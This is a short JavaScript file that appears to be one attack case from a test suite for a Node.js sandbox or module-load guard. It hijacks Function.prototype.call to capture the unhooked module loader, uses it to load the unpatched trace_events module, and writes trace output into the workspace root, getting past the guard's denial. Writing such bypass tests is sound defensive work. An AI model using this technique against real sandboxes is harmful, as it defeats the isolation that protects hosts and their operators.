/* @attack {"title": "hijack Function.prototype.call while require() runs: the Module._load hook calls origLoad.call(...), handing over the unhooked loader; load trace_events with it (never patched) and trace into the workspace root"} */
import { createRequire } from 'node:module';
const req = createRequire(import.meta.url);
const Module = req('node:module');
const realCall = Function.prototype.call;
let rawLoad;
let hijacked = false;
try {
  Function.prototype.call = function call(thisArg, ...args) {
    if (rawLoad === undefined && thisArg === Module && args[0] === 'node:os') rawLoad = this;
    return Reflect.apply(this, thisArg, args);
  };
  hijacked = true;
} catch {
  // Function.prototype.call is read-only: nothing to capture
}
try {
  req('node:os');
} finally {
  if (hijacked) Function.prototype.call = realCall;
}
// Nothing captured (the hook no longer calls through .call): the hooked require, for the denial.
const load = rawLoad ? (id) => Reflect.apply(rawLoad, Module, [id, null, false]) : (id) => req(id);
const trace = load('trace_events');
trace.createTracing({ categories: ['node.perf', 'v8'] }).enable();
await new Promise((r) => setTimeout(r, 300));
